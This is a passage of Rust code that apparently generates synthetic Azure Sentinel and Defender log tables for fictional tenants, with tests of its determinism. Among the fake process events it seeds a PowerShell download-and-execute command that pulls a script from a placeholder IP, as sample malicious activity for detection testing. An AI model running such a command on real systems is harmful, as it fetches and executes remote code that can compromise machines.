        .filter(|m| m.os_platform.starts_with("WindowsServer"))
        .collect();
    let linux: Vec<&Machine> = machines
        .iter()
        .filter(|m| m.os_platform == "Linux")
        .collect();
    let short = |m: &Machine| {
        m.computer_dns_name
            .split('.')
            .next()
            .unwrap_or_default()
            .to_uppercase()
    };

    // Heartbeat: every monitored computer, every 30 minutes for the last 12 hours.
    let mut hb = Table::new(
        "Heartbeat",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("Computer", ColType::String),
            Column::new("ComputerIP", ColType::String),
            Column::new("OSType", ColType::String),
            Column::new("Category", ColType::String),
            Column::new("Version", ColType::String),
            Column::new("ResourceGroup", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    for m in servers.iter().chain(linux.iter()) {
        for k in 0..24 {
            hb.push_named(vec![
                ("TenantId", tenant_col()),
                (
                    "TimeGenerated",
                    K::DateTime(now - Duration::minutes(30 * k + rng.random_range(0..5))),
                ),
                ("Computer", s(&m.computer_dns_name)),
                ("ComputerIP", s(&m.last_ip_address)),
                (
                    "OSType",
                    s(if m.os_platform == "Linux" {
                        "Linux"
                    } else {
                        "Windows"
                    }),
                ),
                ("Category", s("Azure Monitor Agent")),
                ("Version", s("1.30.0.0")),
                ("ResourceGroup", s("rg-servers")),
                ("Type", s("Heartbeat")),
            ]);
        }
    }
    db.insert(hb);

    let mut se = Table::new(
        "SecurityEvent",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("Computer", ColType::String),
            Column::new("EventID", ColType::Int),
            Column::new("Activity", ColType::String),
            Column::new("Account", ColType::String),
            Column::new("AccountType", ColType::String),
            Column::new("LogonType", ColType::Int),
            Column::new("IpAddress", ColType::String),
            Column::new("NewProcessName", ColType::String),
            Column::new("CommandLine", ColType::String),
            Column::new("TargetAccount", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    let events: &[(i64, &str)] = &[
        (4624, "4624 - An account was successfully logged on."),
        (4625, "4625 - An account failed to log on."),
        (4688, "4688 - A new process has been created."),
        (4672, "4672 - Special privileges assigned to new logon."),
        (
            4732,
            "4732 - A member was added to a security-enabled local group.",
        ),
        (4740, "4740 - A user account was locked out."),
    ];
    for i in 0..160 {
        let m = *pick(rng, &servers);
        let (id, activity) = if i % 40 == 0 {
            events[4]
        } else {
            *pick(rng, &events[..4])
        };
        let u = &users[rng.random_range(0..users.len())];
        let account = format!("{}\\{}", spec.netbios, u.account);
        let (proc_name, cmd) = if id == 4688 {
            let p = *pick(
                rng,
                &[
                    "C:\\Windows\\System32\\cmd.exe",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "C:\\Windows\\System32\\svchost.exe",
                ],
            );
            let c = if p.ends_with("powershell.exe") && i % 11 == 0 {
                "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')"
            } else {
                ""
            };
            (s(p), s(c))
        } else {
            (K::Null, K::Null)
        };
        se.push_named(vec![
            ("TenantId", tenant_col()),
            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
            ("Computer", s(&m.computer_dns_name)),
            ("EventID", K::Long(id)),
            ("Activity", s(activity)),
            ("Account", s(&account)),
            ("AccountType", s("User")),
            (
                "LogonType",
                if id == 4624 || id == 4625 {
                    K::Long(*pick(rng, &[2, 3, 10]))
                } else {
                    K::Null
                },
            ),
            (
                "IpAddress",
                if id == 4625 && i % 3 == 0 {
                    s(MALICIOUS_REMOTE[0].0)
                } else {
                    s(format!(
                        "10.{}.1.{}",
                        spec.subnet,
                        rng.random_range(10..250)
                    ))
                },
            ),
            ("NewProcessName", proc_name),
            ("CommandLine", cmd),
            (
                "TargetAccount",
                if id == 4732 || id == 4740 {
                    s(&account)
                } else {
                    K::Null
                },
            ),
            ("Type", s("SecurityEvent")),
        ]);
    }
    db.insert(se);

    let mut signin = Table::new(
        "SigninLogs",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("UserPrincipalName", ColType::String),
            Column::new("UserDisplayName", ColType::String),
            Column::new("AppDisplayName", ColType::String),
            Column::new("IPAddress", ColType::String),
            Column::new("Location", ColType::String),
            Column::new("ResultType", ColType::String),
            Column::new("ResultDescription", ColType::String),
            Column::new("ConditionalAccessStatus", ColType::String),
            Column::new("ClientAppUsed", ColType::String),
            Column::new("RiskLevelDuringSignIn", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    for i in 0..130 {
        let u = &users[rng.random_range(0..users.len())];
        let suspicious = i % 15 == 0;
        let failed = suspicious || rng.random_bool(0.1);
        signin.push_named(vec![
            ("TenantId", tenant_col()),
            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
            ("UserPrincipalName", s(&u.upn)),
            ("UserDisplayName", s(&u.display)),
            (
                "AppDisplayName",
                s(*pick(
                    rng,
                    &[
                        "Office 365 Exchange Online",
                        "Microsoft Teams",
                        "Azure Portal",
                        "Microsoft Office 365 Portal",
                        "Windows Sign In",
                    ],
                )),
            ),
            (
                "IPAddress",
                if suspicious {
                    s(MALICIOUS_REMOTE[2].0)
                } else {
                    s(format!(
                        "{}.{}.{}",
                        spec.external_prefix,
                        rng.random_range(1..250),
                        rng.random_range(1..250)
                    ))
                },
            ),
            (
                "Location",
                s(if suspicious {
                    "RU"
                } else {
                    *pick(rng, &["DE", "NL", "US", "GB", "FR"])
                }),
            ),
            (
                "ResultType",
                s(if failed {
                    *pick(rng, &["50126", "50053", "50074"])
                } else {
                    "0"
                }),
            ),
            (
                "ResultDescription",
                s(if failed {
                    "Invalid username or password or Invalid on-premise username or password."
                } else {
                    ""
                }),
            ),
            (
                "ConditionalAccessStatus",
                s(if failed { "notApplied" } else { "success" }),
            ),
            (
                "ClientAppUsed",
                s(*pick(rng, &["Browser", "Mobile Apps and Desktop clients"])),
            ),
            (
                "RiskLevelDuringSignIn",
                s(if suspicious { "high" } else { "none" }),
            ),
            ("Type", s("SigninLogs")),
        ]);
    }
    db.insert(signin);

    let mut activity = Table::new(
        "AzureActivity",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("OperationNameValue", ColType::String),
            Column::new("ActivityStatusValue", ColType::String),
            Column::new("Caller", ColType::String),
            Column::new("CallerIpAddress", ColType::String),
            Column::new("ResourceGroup", ColType::String),
            Column::new("SubscriptionId", ColType::String),
            Column::new("CategoryValue", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    for i in 0..70 {
        let u = &users[rng.random_range(0..4)];
        activity.push_named(vec![
            ("TenantId", tenant_col()),
            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
            (
                "OperationNameValue",
                s(*pick(
                    rng,
                    &[
                        "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE",
                        "MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION",
                        "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
                        "MICROSOFT.RESOURCES/SUBSCRIPTIONS/RESOURCEGROUPS/DELETE",
                        "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE",
                        "MICROSOFT.KEYVAULT/VAULTS/WRITE",
                    ],
                )),
            ),
            (
                "ActivityStatusValue",
                s(*pick(
                    rng,
                    &["Success", "Success", "Success", "Failure", "Start"],
                )),
            ),
            ("Caller", s(&u.upn)),
            (
                "CallerIpAddress",
                s(format!(
                    "{}.{}.{}",
                    spec.external_prefix,
                    rng.random_range(1..250),
                    rng.random_range(1..250)
                )),
            ),
            (
                "ResourceGroup",
                s(*pick(
                    rng,
                    &["rg-servers", "rg-network", ws.resource_group.as_str()],
                )),
            ),
            ("SubscriptionId", s(&ws.subscription_id)),
            ("CategoryValue", s("Administrative")),
            ("Type", s("AzureActivity")),
        ]);
    }
    db.insert(activity);

    let mut cef = Table::new(
        "CommonSecurityLog",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("DeviceVendor", ColType::String),
            Column::new("DeviceProduct", ColType::String),
            Column::new("Activity", ColType::String),
            Column::new("DeviceAction", ColType::String),
            Column::new("SourceIP", ColType::String),
            Column::new("DestinationIP", ColType::String),
            Column::new("DestinationPort", ColType::Int),
            Column::new("Protocol", ColType::String),
            Column::new("LogSeverity", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    // The stale table's newest row is three days old (a broken connector). Its rows stay within
    // the last week, so the week before the break has a clear daily baseline (15 rows a day)
    // that the last day's none drops from, whatever the draws.
    let (newest, oldest) = if stale {
        (Duration::days(3), Duration::days(7) - Duration::hours(1))
    } else {
        (Duration::minutes(1), Duration::days(7))
    };
    for i in 0..90 {
        let (dst, port) = if i % 10 == 0 {
            let r = *pick(rng, &MALICIOUS_REMOTE[..2]);
            (r.0.to_string(), r.2)
        } else {
            let r = *pick(rng, BENIGN_REMOTE);
            (r.0.to_string(), *pick(rng, &[443, 443, 80, 53, 445]))
        };
        let ts = if i == 0 {
            now - newest
        } else {
            ago(rng, now, newest, oldest)
        };
        cef.push_named(vec![
            ("TenantId", tenant_col()),
            ("TimeGenerated", K::DateTime(ts)),
            ("DeviceVendor", s("Palo Alto Networks")),
            ("DeviceProduct", s("PAN-OS")),
            ("Activity", s("TRAFFIC")),
            (
                "DeviceAction",
                s(if i % 10 == 0 {
                    "deny"
                } else {
                    *pick(rng, &["allow", "allow", "allow", "deny"])
                }),
            ),
            (
                "SourceIP",
                s(format!(
                    "10.{}.{}.{}",
                    spec.subnet,
                    rng.random_range(1..8),
                    rng.random_range(10..250)
                )),
            ),
            ("DestinationIP", s(dst)),
            ("DestinationPort", K::Long(port)),
            ("Protocol", s("TCP")),
            ("LogSeverity", s(*pick(rng, &["1", "3", "5"]))),
            ("Type", s("CommonSecurityLog")),
        ]);
    }
    db.insert(cef);

    let mut sa = Table::new(
        "SecurityAlert",
        vec![
            Column::new("TenantId", ColType::String),
            Column::new("TimeGenerated", ColType::DateTime),
            Column::new("AlertName", ColType::String),
            Column::new("AlertSeverity", ColType::String),
            Column::new("ProviderName", ColType::String),
            Column::new("ProductName", ColType::String),
            Column::new("Status", ColType::String),
            Column::new("CompromisedEntity", ColType::String),
            Column::new("SystemAlertId", ColType::String),
            Column::new("Tactics", ColType::String),
            Column::new("Type", ColType::String),
        ],
    );
    for i in 0..28 {
        let tpl = pick(rng, ALERT_TEMPLATES);
        let m = *pick(rng, &servers);
        sa.push_named(vec![
            ("TenantId", tenant_col()),
            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
            ("AlertName", s(tpl.title)),
            ("AlertSeverity", s(tpl.severity)),
            ("ProviderName", s("MDATP")),
            (
                "ProductName",
                s("Microsoft Defender Advanced Threat Protection"),
            ),
            ("Status", s(*pick(rng, &["New", "Resolved"]))),
            ("CompromisedEntity", s(short(m))),
            ("SystemAlertId", s(guid_from(rng))),
            ("Tactics", s(tpl.category)),
            ("Type", s("SecurityAlert")),
        ]);
    }
    db.insert(sa);
    db
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_kind_of_record_has_its_own_stream() {
        let streams = Streams { tenant_seed: 7 };
        let draw = |kind: &str| streams.of(kind).random::<u64>();
        assert_eq!(draw("machines"), draw("machines"), "a stream is stable");
        assert_ne!(draw("machines"), draw("users"));
        assert_ne!(
            draw("machines"),
            Streams { tenant_seed: 8 }.of("machines").random::<u64>(),
            "and differs per tenant"
        );
    }

    #[test]
    fn deterministic_and_distinct_per_tenant() {
        let a = generate(7, "https://x", 0);
        let b = generate(7, "https://x", 0);
        assert_eq!(a.len(), 2);
        assert_eq!(a[0].machines.len(), 50);
        assert_eq!(a[1].machines.len(), 50);
        let ids = |t: &TenantData| t.machines.iter().map(|m| m.id.clone()).collect::<Vec<_>>();
        assert_eq!(ids(&a[0]), ids(&b[0]));
        assert_ne!(ids(&a[0]), ids(&a[1]));
        assert_eq!(a[0].public.workspaces.len(), 2);
        assert_eq!(a[1].public.workspaces.len(), 1);
        assert!(a[0].machines.iter().all(|m| m.id.len() == 40));
        assert!(
            a[0].machines
                .iter()
                .any(|m| m.onboarding_status == "CanBeOnboarded")
        );
        assert!(
            a[0].machines[0]
                .computer_dns_name
                .ends_with(".contoso.local")
        );
        assert!(
            a[1].machines[0]
                .computer_dns_name
                .ends_with(".fabrikam.local")
        );
        let c = generate(8, "https://x", 0);
        assert_ne!(ids(&a[0]), ids(&c[0]));
        for t in &a {
            for w in &t.workspaces {
                assert!((18..=22).contains(&w.alert_rules.len()));
                assert!(
                    w.alert_rules
                        .iter()
                        .any(|r| r["properties"]["enabled"] == false)
                );
            }
        }
    }

    #[test]
    fn a_fleet_adds_distinct_active_workstations_and_keeps_the_seed() {
        let plain = generate(7, "https://x", 0);
        let fleet = generate(7, "https://x", 500);
        assert_eq!(fleet[0].machines.len(), 550);
        let ids = |t: &TenantData| t.machines.iter().map(|m| m.id.clone()).collect::<Vec<_>>();
        assert_eq!(ids(&fleet[0])[..50], ids(&plain[0])[..]);
        let unique: std::collections::HashSet<_> = ids(&fleet[0]).into_iter().collect();
        assert_eq!(unique.len(), 550);
        assert!(fleet[0].machines[50..].iter().all(|m| {
            m.onboarding_status == "Onboarded"
                && m.health_status == "Active"
                && m.computer_dns_name.starts_with("ws-fleet-")
        }));
    }
}
